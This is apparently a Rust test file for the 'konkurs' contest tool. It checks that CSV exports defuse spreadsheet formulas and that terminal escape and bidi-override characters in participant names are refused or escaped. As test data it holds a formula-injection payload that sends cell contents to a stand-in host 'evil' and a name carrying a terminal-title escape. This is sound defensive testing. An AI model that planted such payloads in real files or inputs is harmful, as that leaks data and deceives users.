//! Hostile text in names and comments. No CSV that konkurs writes carries
//! a formula: a name or text that a spreadsheet would run (`=HYPERLINK(...)`, `+`, `-`, `@`) is written as
//! text with a `'` in front; numbers, negative ones too, stay numbers. And
//! no listing sends a control character, a bidi override or a zero-width
//! character to the terminal: each is shown as `\u{1b}`.

mod common;

use common::*;
use konkurs::service::{Actor, ImportKind, Service};

#[test]
fn a_name_typed_as_a_formula_is_plain_text_in_every_csv() {
    let db = tempfile::tempdir().unwrap();
    contest(db.path());
    {
        let service = Service::open(db.path()).unwrap();
        let evil = "=HYPERLINK(\"http://evil/?\"&A1,\"x\")";
        service
            .import_records(
                &Actor::local_coordinator(),
                ImportKind::Participants,
                vec![
                    participant("P009", evil, "city"),
                    participant("P010", "@SUM(A1)", "city"),
                ],
                "test",
                false,
            )
            .unwrap();
    }
    for args in [
        &["list", "participants", "--format", "csv"][..],
        &["export", "register", "--format", "csv", "--out", "-"],
        &[
            "--lang", "ru", "export", "register", "--format", "csv", "--out", "-",
        ],
    ] {
        let out = konkurs(db.path(), args);
        assert!(out.status.success(), "{args:?}: {out:?}");
        let text = String::from_utf8_lossy(&out.stdout);
        assert!(text.contains("'=HYPERLINK("), "{args:?}:\n{text}");
        assert!(text.contains("'@SUM(A1)"), "{args:?}:\n{text}");
        for line in text.lines() {
            for cell in line.split([',', ';']) {
                let cell = cell.trim_matches('"');
                assert!(
                    !cell.starts_with('=') && !cell.starts_with('@'),
                    "{args:?}: a cell a spreadsheet would run: {cell}"
                );
            }
        }
    }
}

#[test]
fn a_name_with_terminal_escapes_is_refused_and_one_stored_before_is_shown_not_sent() {
    let db = tempfile::tempdir().unwrap();
    contest(db.path());
    let hostile = participant("P011", "Иванова\u{1b}]0;pwned\u{7}\u{202E}Анна", "city");
    {
        let service = Service::open(db.path()).unwrap();
        let refused = service
            .import_records(
                &Actor::local_coordinator(),
                ImportKind::Participants,
                vec![hostile.clone()],
                "test",
                false,
            )
            .unwrap_err()
            .to_string();
        assert!(
            refused.contains("full_name") && refused.contains("U+001B"),
            "{refused}"
        );
    }
    // A database written before konkurs refused such names may hold one.
    konkurs::store::Store::open(db.path())
        .unwrap()
        .write_bypassing_audit(&[konkurs::domain::contest::Change::Put(hostile)])
        .unwrap();
    let out = konkurs(db.path(), &["list", "participants"]);
    assert!(out.status.success());
    let text = String::from_utf8(out.stdout).unwrap();
    assert!(!text.contains('\u{1b}') && !text.contains('\u{7}') && !text.contains('\u{202E}'));
    assert!(
        text.contains("Иванова\\u{1b}]0;pwned\\u{7}\\u{202e}Анна"),
        "{text}"
    );
}
